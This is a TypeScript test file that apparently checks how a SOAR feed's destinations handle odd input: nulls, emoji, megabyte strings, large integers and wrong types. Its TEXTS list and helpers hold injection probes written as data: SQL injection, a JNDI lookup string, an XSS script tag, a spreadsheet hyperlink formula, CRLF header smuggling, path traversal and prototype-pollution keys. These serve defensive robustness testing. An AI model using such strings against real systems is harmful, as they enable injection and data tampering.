import type { FeedEvent, SoarObject } from '@soar-feed/core';
import { anIncident, aRow } from '../../events/builders.js';
import { must, show } from '../must.js';
import { says, textsIn } from '../textsIn.js';
import type { TargetScenario } from '../TargetScenario.js';
import type { TargetSubject } from '../TargetSubject.js';

const MEGABYTE = 1024 * 1024;

/** What somebody may type into a field, and a destination may take for its own language. */
const TEXTS = [
  'Ünïcode 😀👩‍💻 データ',
  `"quoted" 'twice' \\back\\slash`,
  '100% $(HOME) {{x}} ; -- /*',
  `Robert'); DROP TABLE incident; --`,
  '=HYPERLINK("http://192.0.2.1")',
  '${jndi:ldap://192.0.2.1/a} %s %n {0}',
  '<script>alert(1)</script> &amp; ]]>',
  '{"index":{"_id":"7"}}',
];

export const oddValues: readonly TargetScenario[] = [
  {
    name: 'accepts fields that are null or missing, and never writes the word null or undefined for them',
    async run(subject) {
      await subject.open();
      const empty = anIncident({ payload: { description: null, severity_code: null, properties: null } });
      await subject.delivered(empty);
      const { properties: _properties, description: _description, ...few } = empty.payload;
      await subject.delivered({ ...anIncident(), payload: few });
      const seen = await subject.holds(anIncident(), 1, 'snapshots with few fields');
      const words = textsIn(seen).filter((text) =>
        ['null', 'undefined', '[object object]'].includes(text.toLowerCase()),
      );
      must(words.length === 0, 'make no word of a field that is null or not there', `readBack gave ${show(seen)}`);
    },
  },
  {
    name: 'writes emoji, other scripts, quotes and markup unchanged',
    async run(subject) {
      await subject.open();
      for (const name of TEXTS) {
        await subject.delivered(anIncident({ payload: { name } }));
        const seen = await subject.there(anIncident());
        must(says(seen, name), `carry text as it is: ${show(name)}`, `readBack gave ${show(seen)}`);
      }
    },
  },
  {
    name: 'accepts or refuses half of a surrogate pair, control characters, NUL and line breaks',
    run: (subject) =>
      eachAlone(subject, [
        { name: 'half \ud83d of a pair' },
        { name: 'bell \u0007 and escape \u001b' },
        { name: 'nul \u0000 inside' },
        { name: 'two\r\nX-Header: lines' },
      ]),
  },
  {
    name: 'accepts a megabyte of text whole, or refuses it',
    async run(subject) {
      const content = `begins ${'x'.repeat(MEGABYTE)} ends`;
      await eachAlone(subject, [{ description: { format: 'text', content } }], (seen) => {
        const whole = textsIn(seen).find((text) => text.includes('begins xxx'));
        const did = `readBack gave ${whole === undefined ? 'none of it' : `${whole.length} characters`}`;
        must(whole?.includes('xxx ends') === true, 'take a megabyte of text whole, or refuse it; never cut it', did);
      });
    },
  },
  {
    name: 'accepts whole numbers beyond 2^53 with all their digits, or refuses them',
    run: (subject) =>
      eachAlone(subject, [{ properties: { ticket: 9_007_199_254_740_993n } }], (seen) => {
        const rounded = numbersIn(seen).some((text) => /9007199254740992|9\.?007199254740992e/.test(text));
        must(!rounded, 'keep all digits of a whole number (a bigint of the payload)', `readBack gave ${show(seen)}`);
      }),
  },
  {
    name: 'accepts or refuses very long names',
    async run(subject) {
      await eachAlone(subject, [{ name: `long ${'n'.repeat(10_000)} name` }]);
      const type = `../${'table/'.repeat(60)}`;
      const row = aRow({ incidentId: 2500 });
      await subject.takenOrRefused({ ...row, key: { ...row.key, type }, schema: { ...row.schema, name: type } });
    },
  },
  {
    name: 'accepts or refuses an integer that no `number` can hold (a bigint), and names that JavaScript objects have by themselves',
    run: (subject) => eachAlone(subject, [{ properties: { cust_num: 9_007_199_254_740_993n } }, hostileNames()]),
  },
  {
    name: 'accepts or refuses values of the wrong type, without a bug of its own',
    run: (subject) =>
      eachAlone(subject, [
        { name: { not: 'a text' } },
        { severity_code: 'no such option' },
        { severity_code: 999_999 },
        { description: 12, discovered_date: 'yesterday' },
        { properties: ['a list'], plan_status: false },
      ]),
  },
];

/** Texts and numbers inside a value, as text. */
function numbersIn(value: unknown): string[] {
  if (typeof value !== 'object' || value === null) return [String(value)];
  return [...textsIn(value), ...Object.values(value).flatMap(numbersIn)];
}

/** Field names that somebody may choose; they are the object's own properties, as in parsed JSON. */
function hostileNames(): SoarObject {
  const names = ['__proto__', 'constructor', 'toString', 'valueOf', 'hasOwnProperty'];
  const properties = Object.fromEntries(names.map((name) => [name, `value of ${name}`]));
  return { ...properties, properties };
}

/** Each in its own incident; the event after it must arrive in any case. */
async function eachAlone(
  subject: TargetSubject,
  payloads: readonly SoarObject[],
  look: (seen: readonly unknown[]) => void = () => undefined,
): Promise<void> {
  await subject.open();
  for (const [at, payload] of payloads.entries()) {
    const event: FeedEvent = anIncident({ incidentId: 2500 + at, payload });
    if ((await subject.takenOrRefused(event)) === 'delivered') look(await subject.there(event));
    const next = anIncident({ incidentId: 2600 + at });
    await subject.delivered(next);
    await subject.holds(next, 1, `an odd one before it: ${show(payload)}`);
  }
}
